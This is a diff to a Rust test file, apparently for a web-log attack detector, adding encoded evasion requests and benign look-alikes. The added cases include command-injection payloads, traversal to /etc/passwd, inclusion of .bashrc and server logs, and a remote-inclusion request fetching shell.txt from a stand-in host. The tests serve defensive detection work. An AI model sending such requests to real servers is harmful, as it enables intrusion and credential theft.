@@ -353,6 +353,18 @@ fn evasions_are_read_as_the_server_reads_them() {
         ("/q?x=%3C%3F%3D%60id%60%3B", Class::CommandInjection),
         // A base64 value.
         ("/q?file=L2V0Yy9wYXNzd2Q=", Class::FileInclusion),
+        // ANSI-C quoting and a variable run as a command; a binary named by its path.
+        ("/q?x=CMD%3D%24%27id%27%3B%24CMD", Class::CommandInjection),
+        ("/q?x=%7Cusr%2Fbin%2Fid", Class::CommandInjection),
+        // Fuzzers' traversal notations; dot files and server logs; a remote script.
+        ("/q?f=%2F0x2e0x2e0x2fetc%2Fpasswd", Class::PathTraversal),
+        ("/q?f=/..0x2f..0x2fetc/passwd", Class::PathTraversal),
+        ("/q?f=%2F.bashrc", Class::FileInclusion),
+        ("/q?f=/apache/logs/error.log", Class::FileInclusion),
+        (
+            "/q?root=http://203.0.113.5/shell.txt??cmd",
+            Class::FileInclusion,
+        ),
     ];
     for (target, class) in cases {
         let line = access(target, BROWSER);
@@ -374,6 +386,8 @@ fn evasion_decoding_leaves_ordinary_requests_alone() {
         "/shop;jsessionid=ABC123?id=4",
         "/price?total=%2450&tip=%245",
         "/docs/alert-settings?confirm=yes",
+        "/man?page=usr%2Fbin%2Fenv+explained",
+        "/q?a=1&price=%245;b=2",
     ];
     for t in targets {
         let line = access(t, BROWSER);
